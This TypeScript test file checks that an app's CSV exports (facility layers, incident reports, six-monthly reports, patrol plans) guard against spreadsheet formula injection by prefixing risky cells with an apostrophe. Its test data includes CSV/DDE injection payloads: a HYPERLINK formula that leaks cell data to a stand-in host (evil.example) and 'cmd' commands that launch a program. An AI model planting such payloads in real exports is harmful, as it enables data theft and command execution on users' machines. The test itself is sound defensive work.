import { parse } from 'csv-parse/sync';
import type { Feature, FeatureCollection } from 'geojson';
import { describe, expect, it } from 'vitest';
import { planToCsv } from '../../server/exports/patrol-plan.ts';
import type { PatrolPlan } from '../../server/analysis/patrol-plan/index.ts';
import { createTestApp } from '../helpers/test-app.ts';

/** Text a spreadsheet would run as a formula or a DDE command (OWASP "CSV Injection"), and what must come out. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
const neutralised = (text: string) => `'${text}`;

const collection = (...features: Feature[]): FeatureCollection => ({ type: 'FeatureCollection', features });
const facility = (id: number, name: string): Feature => ({
  type: 'Feature', id, geometry: { type: 'Point', coordinates: [108.0 + id / 1000, 14.35] }, properties: { name, kind: 'exchange', owner: 'vnpt', status: 'active', address: name },
});

/** Rows of a CSV as a spreadsheet would split them: csv-parse, an independent RFC 4180 reader. */
const rows = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];

describe('CSV files are safe to open in a spreadsheet', async () => {
  const t = await createTestApp({
    facilities: collection(...HOSTILE.map((name, index) => facility(index + 1, name)), facility(50, 'Tổng đài Kon Tum')),
    admin_areas: collection({ type: 'Feature', id: 1, geometry: { type: 'Polygon', coordinates: [[[107.9, 14.25], [108.4, 14.25], [108.4, 14.7], [107.9, 14.7], [107.9, 14.25]]] }, properties: { level: 'district', code: '901', name: HOSTILE[0] } }),
    incidents: collection({
      type: 'Feature', id: 1, geometry: { type: 'Point', coordinates: [108.0, 14.4] },
      properties: { type: 'cable_theft', occurred_at: '2026-03-01T02:00:00Z', reported_at: '2026-03-01T06:00:00Z', source: 'police', status: 'reported', district_code: '901', description: HOSTILE[1] },
    }),
  });

  it('a layer export writes every cell that starts with =, +, -, @, tab or CR with a leading apostrophe', async () => {
    const response = await t.app.request('/api/collections/facilities/export?format=csv');
    expect(response.status).toBe(200);
    const [header, ...body] = rows(await response.text());
    const name = header.indexOf('name'), address = header.indexOf('address');
    const byId = new Map(body.map((row) => [row[0], row]));
    HOSTILE.forEach((text, index) => {
      expect(byId.get(String(index + 1))![name]).toBe(neutralised(text));
      expect(byId.get(String(index + 1))![address]).toBe(neutralised(text));
    });
    expect(byId.get('50')![name]).toBe('Tổng đài Kon Tum');
    // Coordinates west of Greenwich or a negative number stay numbers: only text is neutralised.
    expect(byId.get('50')![header.indexOf('wkt')]).toMatch(/^POINT/);
  });

  it('the incidents export neutralises free-text descriptions', async () => {
    const [header, row] = rows(await (await t.app.request('/api/collections/incidents/export?format=csv')).text());
    expect(row[header.indexOf('description')]).toBe(neutralised(HOSTILE[1]));
  });

  it('the six-monthly report CSV neutralises names that come from the data, and keeps negative changes numeric', async () => {
    const response = await t.as('dic').request('/api/reports/six-monthly?period=2026-H1&format=csv');
    expect(response.status).toBe(200);
    const cells = rows(await response.text()).flat();
    expect(cells).toContain(neutralised(HOSTILE[0]));
    expect(cells).not.toContain(HOSTILE[0]);
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('a patrol plan CSV neutralises unit, base and target names', () => {
    const stop = { order: 1, targetId: 'a', targetName: HOSTILE[3], kind: 'periodic' as const, arrival: '2026-12-01T07:10:00+07:00', dwellMinutes: 15, lon: -0.5, lat: 14.3 };
    const plan = {
      shifts: [{ unitId: 'u', unitName: HOSTILE[0], baseName: HOSTILE[2], date: '2026-12-01', shift: 1, stops: [stop], route: { type: 'Feature', properties: {}, geometry: { type: 'LineString', coordinates: [[0, 0], [1, 1]] } }, minutes: 1, distanceMeters: 1 }],
    } as unknown as PatrolPlan;
    const [, row] = rows(planToCsv(plan));
    expect(row.slice(0, 2)).toEqual([neutralised(HOSTILE[0]), neutralised(HOSTILE[2])]);
    expect(row[6]).toBe(neutralised(HOSTILE[3]));
    expect(row[9]).toBe('-0.5');
  });
});
